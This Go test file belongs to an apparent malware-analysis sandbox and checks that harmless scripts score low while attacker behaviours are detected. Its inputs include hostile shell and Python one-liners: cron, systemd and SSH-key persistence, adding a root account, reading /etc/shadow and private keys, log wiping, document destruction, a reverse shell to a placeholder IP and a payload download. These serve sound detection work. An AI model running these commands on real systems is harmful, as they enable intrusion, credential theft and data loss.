package jail

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sync/errgroup"

	"tyto/verdict"
)

// What people run every day must stay clean: below 40.
func TestHarmlessProgramsAreClean(t *testing.T) {
	e := newEngine(t, Options{Time: 5 * time.Second})
	for _, test := range []struct{ name, script string }{
		{"listing", "#!/bin/sh\nls -la / /usr/bin /etc; ps; df; id; uname -a; cat /etc/passwd\n"},
		{"a file in tmp", "#!/bin/sh\necho hello > /tmp/hello.txt; cat /tmp/hello.txt; mv /tmp/hello.txt /tmp/bye.txt; rm /tmp/bye.txt\n"},
		{"python", "#!/usr/bin/python3\nimport json, os, tempfile, subprocess\nprint(json.dumps([os.getpid()]))\nwith tempfile.NamedTemporaryFile() as f: f.write(b'x')\nsubprocess.run(['true'])\n"},
		{"perl", "#!/usr/bin/perl\nprint \"hello\\n\";\n"},
		{"compiler", "#!/bin/sh\ncd /tmp; printf 'int puts(const char*); int main(void){puts(\"hi\");return 0;}' > h.c; cc -o h h.c && ./h\n"},
		{"archive", "#!/bin/bash\nmkdir d; for i in 1 2 3; do echo $i > d/$i; done; tar czf d.tgz d; tar tzf d.tgz; rm -r d; sort /etc/passwd | awk -F: '{print $1}' | head -2; sleep 2; wait\n"},
		{"a web client", "#!/bin/sh\npython3 -c 'import urllib.request as u; u.urlopen(\"http://www.example.com/\", timeout=1)' 2>/dev/null\n"},
		{"installs into home", "#!/bin/sh\nmkdir -p ~/.local/bin; cp /usr/bin/true ~/.local/bin/tool; ~/.local/bin/tool; ~/.local/bin/tool\n"},
	} {
		t.Run(test.name, func(t *testing.T) {
			seen := examine(t, e, "harmless", needed(t, test.script))
			if got := score(seen); got >= 40 {
				t.Errorf("score %.1f, want less than 40:\n%s", got, describe(seen))
			}
			if len(seen.Processes) == 0 || seen.Processes[0].Path != "/home/user/harmless" {
				t.Errorf("the first process is not the sample: %v", seen.Processes)
			}
			t.Log(describe(seen))
		})
	}
}

// Each thing that attackers do is seen as what it is.
func TestBehaviours(t *testing.T) {
	e := newEngine(t, Options{Time: 3 * time.Second})
	for i, test := range []struct {
		script string
		want   string
	}{
		{"echo '* * * * * x' > /var/spool/cron/crontabs/root", "writes-cron"},
		{"echo '* * * * * x' > /tmp/a; mv /tmp/a /etc/cron.d/a", "writes-cron"},
		{"ln -s /tmp/x.service /etc/systemd/system/multi-user.target.wants/x.service", "writes-systemd-unit"},
		{"printf '[Service]\\nExecStart=/tmp/x\\n' > ~/.config/systemd/user/x.service", "writes-systemd-unit"},
		{"echo /tmp/x.so > /etc/ld.so.preload", "writes-linker-settings"},
		{"echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys", "writes-ssh-keys"},
		{"echo x >> ~/.bashrc", "writes-shell-startup"},
		{"echo x >> /etc/rc.local", "writes-startup"},
		{"echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd", "changes-accounts"},
		{"cat /etc/shadow", "reads-secrets"},
		{"cat ~/.ssh/id_*", "reads-secrets"},
		{"cp /usr/bin/true /tmp/.x; /tmp/.x", "hides-program"},
		{"cp /usr/bin/true /tmp/x; /tmp/x", "runs-dropped-program"},
		{"cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh", "makes-setuid"},
		{"rm $0", "deletes-itself"},
		{"rm /var/log/auth.log ~/.bash_history", "removes-traces"},
		{"for f in ~/Documents/*; do mv $f $f.locked; done", "destroys-documents"},
		{"for f in ~/Documents/*; do echo gone > $f; done", "destroys-documents"},
		{"cat /sys/class/dmi/id/product_name", "looks-for-sandbox"},
		{"echo x > /proc/sys/kernel/core_pattern", "reaches-for-host"},
		{"python3 -c 'import mmap; mmap.mmap(-1, 4096, prot=7)'", "writes-code"},
		{"python3 -c 'import os; f=os.memfd_create(\"x\"); os.write(f, open(\"/usr/bin/true\",\"rb\").read()); os.execv(\"/proc/self/fd/%d\" % f, [\"x\"])'", "runs-from-memory"},
		{"python3 -c 'import socket; s=socket.socket(); s.bind((\"0.0.0.0\",99999 % 65536)); s.listen()'", "listens"},
		{"python3 -c 'import socket,os; s=socket.socket()\ntry: s.connect((\"192.0.2.1\",1))\nexcept OSError: pass\nos.dup2(s.fileno(),0); os.execv(\"/bin/sh\",[\"sh\"])'", "remote-shell"},
		{"python3 -c 'for i in range(6000): open(\"/tmp/%d\" % i, \"w\")'; echo x > /etc/cron.d/last", "writes-cron"},
		{"python3 -c 'for i in range(6000): open(\"/etc/%d\" % i, \"w\")'; ln -s /tmp/x /etc/cron.d/last", "writes-cron"},
		{"(setsid sh -c 'sleep 3; echo x > /etc/cron.d/late' &) ; exit 0", "writes-cron"},
		{"cp /usr/bin/true /tmp/curl; /tmp/curl http://203.0.113.9/payload.sh -o /tmp/p", "downloads"},
	} {
		t.Run(fmt.Sprintf("%02d %s", i, strings.ReplaceAll(test.want, "-", " ")), func(t *testing.T) {
			seen := examine(t, e, "sample.sh", needed(t, test.script+"\n"))
			if !slices.Contains(ids(seen), test.want) {
				t.Errorf("%q was not seen in %q:\n%s", test.want, test.script, describe(seen))
			}
		})
	}
}

// What the report lists is what the sample did, by the names that it used.
func TestReportLists(t *testing.T) {
	e := newEngine(t, Options{Time: 3 * time.Second})
	seen := examine(t, e, "lists.sh", needed(t, `
printf 'short' > /tmp/kept
printf 'gone' > /tmp/gone; rm /tmp/gone
python3 -c 'import socket
try: socket.getaddrinfo("c2.example.net", 443)
except OSError: pass
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).connect(("2001:db8::1", 123))' 2>/dev/null
echo http://203.0.113.9/x | cat
sh -c 'true https://evil.example.org/a?b=c'
`))
	sums := map[string]string{}
	for _, d := range seen.Dropped {
		sums[d.Path] = d.SHA256
	}
	want := map[string]string{"/tmp/kept": digest([]byte("short")), "/tmp/gone": digest([]byte("gone"))}
	if diff := cmp.Diff(want, sums); diff != "" {
		t.Errorf("dropped files (-want +got):\n%s", diff)
	}
	var out []verdict.Connection
	for _, c := range seen.Connections {
		if c.Time == nil {
			t.Errorf("%v has no time", c)
		}
		c.Time = nil
		if c.Port != 53 {
			out = append(out, c)
		}
	}
	if diff := cmp.Diff([]verdict.Connection{{Protocol: "udp", Address: "2001:db8::1", Port: 123}}, out); diff != "" {
		t.Errorf("connections (-want +got):\n%s", diff)
	}
	if !slices.Contains(seen.Domains, "c2.example.net") {
		t.Errorf("domains %q do not hold the name asked for", seen.Domains)
	}
	if diff := cmp.Diff([]string{"https://evil.example.org/a?b=c"}, seen.URLs); diff != "" {
		t.Errorf("addresses (-want +got):\n%s", diff)
	}
	if !slices.Contains(seen.Files, verdict.FileAct{Path: "/tmp/gone", Act: verdict.Deleted}) {
		t.Errorf("the deletion is not in %v", seen.Files)
	}
	for _, p := range seen.Processes {
		if p.Path == "/usr/bin/python3" && (len(p.Arguments) != 3 || p.Parent == 0) {
			t.Errorf("python's arguments or parent are missing: %v", p)
		}
	}
}

// Samples that run side by side do not see each other.
func TestSideBySide(t *testing.T) {
	e := newEngine(t, Options{Time: 5 * time.Second})
	var group errgroup.Group
	for i := range 4 {
		name := fmt.Sprintf("side%d.sh", i)
		s := sample(t, name, fmt.Appendf(nil, "echo %d > /tmp/mine; python3 -c ''; ls /tmp > /var/list\n", i))
		group.Go(func() error {
			seen, err := e.Examine(t.Context(), s)
			if err != nil {
				return err
			}
			dropped := map[string]string{}
			for _, d := range seen.Dropped {
				dropped[d.Path] = d.SHA256
			}
			want := map[string]string{"/tmp/mine": digest(fmt.Appendln(nil, i)), "/var/list": digest([]byte("mine\n"))}
			if diff := cmp.Diff(want, dropped); diff != "" {
				return fmt.Errorf("%s (-want +got):\n%s", name, diff)
			}
			return nil
		})
	}
	if err := group.Wait(); err != nil {
		t.Error(err)
	}
}

// What cannot be run is not, and the report says so.
func TestNotRun(t *testing.T) {
	e := newEngine(t, Options{})
	elf := make([]byte, 64)
	copy(elf, "\x7fELF\x01\x01\x01")
	for _, test := range []struct {
		name    string
		content string
		want    string
	}{
		{"a.exe", "MZ\x90\x00", "It was not run: Windows programs cannot be run here, they are only looked at."},
		{"letter.txt", "Dear all", "It was not run: it is neither a Linux program nor a script."},
		{"empty", "", "It was not run: it is neither a Linux program nor a script."},
		{"interpreter", "#!/opt/none/such\n", "It was not run: this computer cannot execute it; it may be damaged, or its interpreter may be missing here."},
		{"cut", "\x7fELF\x02\x01\x01", "It was not run: its header is cut off."},
		{"small", string(elf), "It was not run: it is a program for another processor (machine 0, class 1)."},
	} {
		t.Run(strings.ReplaceAll(test.name, ".", " "), func(t *testing.T) {
			seen := examine(t, e, test.name, []byte(test.content))
			if seen.Engine.Saw != test.want || seen.Platform != "" || len(seen.Engine.Blind) == 0 {
				t.Errorf("got %+v", seen)
			}
		})
	}
}

func TestFileName(t *testing.T) {
	for given, want := range map[string]string{
		"invoice.sh": "invoice.sh", "": "sample", "..": "sample", "-rf": "rf", "../../etc/passwd": "passwd",
		"a b\nc.sh": "a_b_c.sh", "\x00": "_", ".bashrc": "bashrc", "ünï": "_n_",
	} {
		if got := fileName(given); got != want {
			t.Errorf("fileName(%q) = %q, want %q", given, got, want)
		}
	}
}
